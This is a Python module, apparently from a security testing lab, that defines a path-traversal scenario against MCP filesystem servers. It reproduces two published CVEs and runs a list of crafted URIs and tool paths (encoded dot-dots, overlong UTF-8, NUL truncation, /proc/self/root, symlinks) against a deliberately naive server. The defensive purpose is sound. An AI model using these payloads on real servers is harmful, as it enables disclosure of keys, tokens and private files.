@@ -1,0 +1,167 @@
+"""``path-traversal``: a crafted URI or path reads what lies outside the workspace."""
+
+from __future__ import annotations
+
+import json
+from typing import TYPE_CHECKING, Any
+
+from doorward.lab import oracles
+from doorward.lab.scenario import BenignTwinBrokenError, Era, Example, Harm, Scenario, Target, Trace, Variant
+from doorward.lab.targets import published, python, script
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from doorward.lab.stage import Stage
+
+PUBLISHED = "server-filesystem-2025.3.28"
+NOTE = "minutes.txt"
+
+
+def furnish(work: Path, greeting: str) -> None:
+    """A note to read, and two links as a cloned repository may bring them."""
+    (work / NOTE).write_text(f"minutes of the meeting: {greeting}\n", encoding="utf-8")
+    (work / "latest.txt").symlink_to(work.parent / "outside" / "secret.txt")
+    (work / "shared").symlink_to(work.parent / "outside")
+
+
+def _published_command(stage: Stage) -> tuple[str, ...] | None:
+    found = published.find(PUBLISHED)
+    if isinstance(found, published.NotInstalled):
+        return None
+    return (*found.argv, str(stage.layout.work))
+
+
+def _published_missing() -> str:
+    found = published.find(PUBLISHED)
+    return f"{found.reason}: {found.hint}" if isinstance(found, published.NotInstalled) else ""
+
+
+def _resource(id: str, title: str, uri: str) -> Variant:
+    return Variant(id, title, {"method": "resources/read", "params": {"uri": uri}})
+
+
+def _call(id: str, title: str, tool: str, path: str) -> Variant:
+    return Variant(id, title, {"method": "tools/call", "params": {"name": tool, "arguments": {"path": path}}})
+
+
+FILESYSTEM = Target(
+    id="filesystem",
+    title="@modelcontextprotocol/server-filesystem 2025.3.28",
+    command=_published_command,
+    furnish=furnish,
+    configuration="""\
+[servers.filesystem.tools.read_file.arguments.path]
+path_below = "{work}"
+[servers.filesystem.tools.get_file_info.arguments.path]
+path_below = "{work}"
+""",
+    tools=("read_file", "get_file_info"),
+    eras=(Era.LEGACY,),
+    missing=_published_missing,
+)
+
+NOTES = Target(
+    id="workspace-notes",
+    title="a naive server of ours for the notes in a folder",
+    command=lambda stage: (*python(), script("workspace_notes"), str(stage.layout.work)),
+    furnish=furnish,
+    configuration="""\
+[servers.workspace-notes.tools.open_note.arguments.path]
+path_below = "{work}"
+""",
+    tools=("open_note",),
+)
+
+
+class PathTraversal(Scenario):
+    """Path traversal via a crafted ``resources/read`` URI.
+
+    Goal:
+        Read a file that the server was never given, through a server that was given one folder.
+    Attacker:
+        A client, or whoever makes a user's client ask: a prompt, a document with a link, a cloned repository that
+        brings a symbolic link.
+    Steps:
+        1. A secret lies beside the server's folder, behind a link in it, and in a sibling that shares its name's start.
+        2. The attacker sends a URI or a path argument that means the secret, once for each way to write it. The lines
+           are raw, since the URL types of clients would tidy them up.
+        3. The server compares strings, decodes, and opens the file.
+    Impact:
+        Disclosure of any file that the server's process may read: keys, tokens, other users' work.
+    Remedy:
+        Judge the path that would be opened (decoded, joined, links resolved) and not the string; confine the server so
+        that the rest of the disk is unreadable whatever it opens.
+    """
+
+    id = "path-traversal"
+    title = "path traversal via a crafted resources/read URI"
+    attacker = "client"
+    stride = "information disclosure"
+    cwe = ("CWE-22", "CWE-59", "CWE-41")
+    owasp = "MCP10:2025"
+    controls = ("path-confinement", "argument-constraints")
+    examples = (
+        Example(
+            id=PUBLISHED,
+            title="CVE-2025-53110 (prefix match) and CVE-2025-53109 (symbolic link) as published",
+            target=FILESYSTEM,
+            variants=(
+                _call("sibling-prefix", "a sibling that shares the prefix", "read_file", "{work}-evil/secret.txt"),
+                _call("symlink", "a link in the workspace", "read_file", "{work}/latest.txt"),
+            ),
+        ),
+        Example(
+            id="workspace-notes",
+            title="the document's example on a naive server",
+            target=NOTES,
+            variants=(
+                _resource("dot-dot", "the document's own", "file://{work}/../outside/secret.txt"),
+                _resource("percent", "percent-encoded", "file://{work}/%2e%2e/outside/secret.txt"),
+                _resource("percent-slash", "percent-encoded slash", "file://{work}/..%2foutside%2fsecret.txt"),
+                _resource("double-percent", "encoded twice", "file://{work}/%252e%252e%252foutside/secret.txt"),
+                _resource("overlong", "overlong UTF-8", "file://{work}/%c0%ae%c0%ae/outside/secret.txt"),
+                _resource("backslash", "back-slashed", "file://{work}/..\\outside\\secret.txt"),
+                _resource("full-width", "Unicode normalisation", "file://{work}/\uff0e\uff0e/outside/secret.txt"),
+                _resource("nul", "what looks like the name ends at NUL", "file://{work}/../outside/secret.txt%00.md"),
+                _resource("host", "a host that is not this one", "file://files.example{work}/../outside/secret.txt"),
+                _resource(
+                    "proc-root",
+                    "around through /proc",
+                    "file://{work}" + "/.." * 12 + "/proc/self/root{outside}/secret.txt",
+                ),
+                _resource("sibling-prefix", "a sibling that shares the prefix", "file://{work}-evil/secret.txt"),
+                _resource("symlink", "a link to a file", "file://{work}/latest.txt"),
+                _resource("symlinked-folder", "a link to a folder", "file://{work}/shared/secret.txt"),
+                _call("tool-dot-dot", "inside a tool argument", "open_note", "../outside/secret.txt"),
+                _call("tool-sibling", "a sibling inside a tool argument", "open_note", "{work}-evil/secret.txt"),
+                _call("tool-symlink", "a link inside a tool argument", "open_note", "latest.txt"),
+            ),
+        ),
+    )
+
+    async def attack(self, stage: Stage, variant: Variant) -> None:
+        payload = stage.filled(variant.payload)
+        await stage.ask(payload["method"], payload["params"])
+
+    def harmed(self, stage: Stage, _variant: Variant, trace: Trace, /) -> Harm | None:
+        how = oracles.arrived(trace.lines, stage.canary)
+        return Harm(f"the client got the content of a file outside the workspace: {how}") if how else None
+
+    async def benign(self, stage: Stage) -> str:
+        if stage.example.target is FILESYSTEM:
+            got: Any = await stage.client.call_tool("read_file", {"path": str(stage.layout.work / NOTE)})
+            if stage.greeting not in got.content[0].text:
+                raise BenignTwinBrokenError("read_file did not give the note")
+            return f"read_file gave {NOTE}"
+        listed = await stage.client.list_resources()
+        uri = next((r.uri for r in listed.resources if r.uri.endswith(NOTE)), "")
+        read: Any = await stage.client.read_resource(uri)
+        called: Any = await stage.client.call_tool("open_note", {"path": NOTE})
+        for text in (read.contents[0].text, called.content[0].text):
+            if stage.greeting not in text:
+                raise BenignTwinBrokenError(f"the note did not arrive, but {json.dumps(text)}")
+        return f"resources/read and open_note gave {NOTE}"
+
+
+SCENARIO = PathTraversal()
